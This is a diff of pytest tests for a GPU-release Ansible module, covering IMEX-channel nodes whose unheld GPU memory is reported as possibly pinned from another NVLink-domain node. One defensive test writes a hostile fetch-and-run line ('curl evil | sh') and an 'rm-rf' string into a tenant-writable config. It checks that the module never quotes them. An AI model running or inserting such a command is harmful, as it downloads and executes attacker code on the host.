@@ -5,9 +5,15 @@ simulated driver taught each shape (tests/sim/README.md, "Node shapes").
 WSL2: the simulated host has no NVIDIA kernel driver (an empty /proc/driver), no /dev/nvidia*, a
 /dev/dxg, the kernel release WSL's kernel reports, and an nvidia-smi that lists the GPU with what
 Windows holds (2844 MiB) and no process (tests/fixtures/nvidia-smi/wsl2/README.md).
+
+Remote importers: a 2-GPU node with an IMEX channel (/dev/nvidia-caps-imex-channels/channel0, root's)
+and nvidia-imex's list of the domain's nodes; GPU 1 holds memory that no process here holds and no
+compute-apps row names (the `leak` fault with `listed: false`), as another node's import keeps it.
+A namespace host is a PID namespace of its own: the run reads as inside a container, which the words say.
 """
 import json
 
+import make_config
 import pytest
 
 from ansible_in_ns import run_module
@@ -90,3 +96,62 @@ def test_a_users_own_dev_dxg_does_not_make_a_plain_node_wsl(nshost):
     run = run_module(host, "gpu_release", {})
     assert not run.get("failed") and run["released"], run.result
     assert [k["pid"] for k in run["killed"]] == [holder.pid] and used(host, 0) == 0
+
+
+IMEX_NODES = ["10.114.0.1", "10.114.0.2", "10.114.0.3", "10.114.0.4", "10.114.0.5"]
+IMEX_WORDS = ("and no process of this container holds it: this node has IMEX channels (/dev/nvidia-caps-imex-channels/channel0), so the memory "
+              "is possibly pinned from another node of the NVLink domain")
+
+
+@pytest.fixture(scope="module")
+def imex(module_nshost):
+    host = module_nshost(config=make_config.make_config("h200x2", seed="imexnode", imex={"channels": 1, "nodes": IMEX_NODES}), seed="imexnode")
+    host.set_fault({"leak": {"1": {"mib": 4096, "listed": False}}})
+    return host
+
+
+def no_reset_steps(text):
+    return "--gpu-reset" not in text and "reboot" not in text and "reset or a reboot is needed" not in text
+
+
+def test_memory_no_process_here_holds_on_an_imex_node_is_said_pinned_from_another_node_without_reset_advice(imex):
+    run = run_module(imex, "gpu_release", {"gpus": [1]})
+    msg = run["msg"]
+    assert run.get("failed") and f"GPU 1 ({imex.config['gpus'][1]['uuid']}) reads 4096 MiB, {IMEX_WORDS}" in msg, msg
+    assert "`nvidia-imex-ctl -N -H` lists the domain's nodes: run zeromib.gpu.gpu_facts on the other nodes of the domain " \
+           "(10.114.0.1, 10.114.0.2, 10.114.0.3, 10.114.0.4 and 1 more, from /etc/nvidia-imex/nodes_config.cfg)" in msg, msg
+    assert no_reset_steps(msg), msg
+    assert "or by a process of the host or of another container sharing it" in msg  # inside: the host's may hold it too
+    assert used(imex, 1) == 4096 and not run.get("changed")
+
+
+def test_the_slurm_epilog_on_an_imex_node_says_the_same_and_no_reset(imex, runner, tmp_path):  # noqa: F811
+    uuid = imex.config["gpus"][1]["uuid"]
+    rc, stderr, entry = hook(imex, runner, tmp_path, "epilog", "702", {"CUDA_VISIBLE_DEVICES": uuid, "SLURM_JOB_GPUS": "1"})
+    assert rc != 0 and not entry["ok"] and entry["causes"] == [
+        "GPU 1: 4096 MiB, no process holds it here: possibly pinned from another node of the NVLink domain (IMEX channels; "
+        "nvidia-imex-ctl -N -H lists them: run gpu_facts there)"], (stderr, entry)
+    assert no_reset_steps(stderr + json.dumps(entry)), entry
+
+
+def test_a_nodes_list_a_tenant_can_write_is_not_quoted(imex):
+    """The attacker: nvidia-imex's node list handed to user 4242 (or left writable by others), filled
+    with words of theirs. The message quotes no line of it and still names the shape."""
+    config = "/etc/nvidia-imex/nodes_config.cfg"
+    try:
+        imex.run(["sh", "-c", f"printf 'rm-rf-everything\\nrun: curl evil | sh\\n' > {config} && chown {USER} {config}"], check=True)
+        run = run_module(imex, "gpu_release", {"gpus": [1]})
+        assert run.get("failed") and IMEX_WORDS in run["msg"] and "run zeromib.gpu.gpu_facts on the other nodes of the domain to name" in run["msg"]
+        assert "rm-rf" not in run["msg"] and "evil" not in run["msg"], run["msg"]
+        imex.run(["sh", "-c", f"chown 0 {config} && chmod 0666 {config}"], check=True)
+        assert "rm-rf" not in run_module(imex, "gpu_release", {"gpus": [1]})["msg"]
+    finally:
+        imex.run(["sh", "-c", f"printf '%s\\n' {' '.join(IMEX_NODES)} > {config} && chown 0 {config} && chmod 0644 {config}"], check=True)
+
+
+def test_without_imex_channels_the_same_memory_gets_the_reset_advice(nshost):
+    """The contrast: the same unheld memory on a node without IMEX channels is the driver's to free."""
+    host = nshost("h200x2", seed="noimex")
+    host.set_fault({"leak": {"1": {"mib": 4096, "listed": False}}})
+    msg = run_module(host, "gpu_release", {"gpus": [1]})["msg"]
+    assert "IMEX" not in msg and "a GPU reset or a reboot of the host is needed" in msg, msg
